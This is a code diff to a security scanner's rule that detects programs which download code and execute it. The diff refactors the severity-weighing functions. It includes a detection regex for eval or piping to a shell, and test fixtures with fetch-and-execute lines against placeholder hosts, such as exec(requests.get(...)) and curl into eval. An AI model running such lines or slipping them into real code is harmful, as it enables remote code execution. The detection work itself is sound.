@@ -1,4 +1,6 @@
 /** RC-01: programs that evaluate what they fetch. */
+import { byAnyHost } from './shared.ts';
+import type { Weigher } from '../../engine/rule.ts';
 import { row, runKinds } from '../../engine/rule.ts';
 import {
   blank,
@@ -29,6 +31,25 @@ import { fenced, inFile, weighed } from '../../engine/example.ts';
 import { bodyVariables, replyVariables } from '../../vocabulary/remote-code/rc-01-download-to-interpreter.ts';
 import { isUsedLater } from '../../vocabulary/variables.ts';
 import type { Row } from '../../engine/rule.ts';
+
+/** a download stored in a variable that is run. */
+export const byVariableRun: Weigher = (hit) =>
+  isUsedLater(
+    hit,
+    (name) =>
+      String.raw`(?:\beval|\b(?:ba|z|da)?sh\s{1,4}-c|\b(?:ba|z|da)?sh\s{0,4}<<<)\s{0,4}["']?\$\{?${name}\b|\$\{?${name}\}?["']?\s{0,3}\|\s{0,3}(?:ba|z|da)?sh\b`,
+  )
+    ? byHost(hit)
+    : null;
+
+/** fetch, then evaluate the response. */
+export const byReply: Weigher = (hit) => {
+  const run = runsReply(hit.scope, hit.region.text);
+  if (run === null) return null;
+  const isLater = isRunLater(hit.scope, hit.match[0]);
+  // A value of the reply in a command of the program is an injection at most.
+  return run === 'value' ? (isLater ? 'medium' : null) : isLater ? byHost(hit) : 'medium';
+};
 
 export const programsOfDownloads: readonly Row[] = [
   row('exec(requests.get(…))', {
@@ -72,7 +93,7 @@ export const programsOfDownloads: readonly Row[] = [
       ),
       gap(300),
     ),
-    weigh: (hit) => byHost(hit) ?? 'high',
+    weigh: byAnyHost,
     catches: [
       inFile('scripts/tool.py', 'import requests', 'exec(requests.get("https://cdn.invalid/x.py").text)'),
     ],
@@ -162,13 +183,7 @@ export const programsOfDownloads: readonly Row[] = [
       ),
       pattern(scheme),
     ],
-    weigh: (hit) => {
-      const run = runsReply(hit.scope, hit.region.text);
-      if (run === null) return null;
-      const isLater = isRunLater(hit.scope, hit.match[0]);
-      // A value of the reply in a command of the program is an injection at most.
-      return run === 'value' ? (isLater ? 'medium' : null) : isLater ? byHost(hit) : 'medium';
-    },
+    weigh: byReply,
     catches: [
       inFile(
         'scripts/a.py',
@@ -224,14 +239,7 @@ export const programsOfDownloads: readonly Row[] = [
       'http(s):',
       gap(200),
     ),
-    weigh: (hit) =>
-      isUsedLater(
-        hit,
-        (name) =>
-          String.raw`(?:\beval|\b(?:ba|z|da)?sh\s{1,4}-c|\b(?:ba|z|da)?sh\s{0,4}<<<)\s{0,4}["']?\$\{?${name}\b|\$\{?${name}\}?["']?\s{0,3}\|\s{0,3}(?:ba|z|da)?sh\b`,
-      )
-        ? byHost(hit)
-        : null,
+    weigh: byVariableRun,
     catches: [fenced('sh', 'x=$(curl -fsSL https://s.invalid/i)', 'eval "$x"')],
     spares: [
       fenced('sh', 'v=$(curl -s https://api.acme.example/version)', 'echo "$v"'),
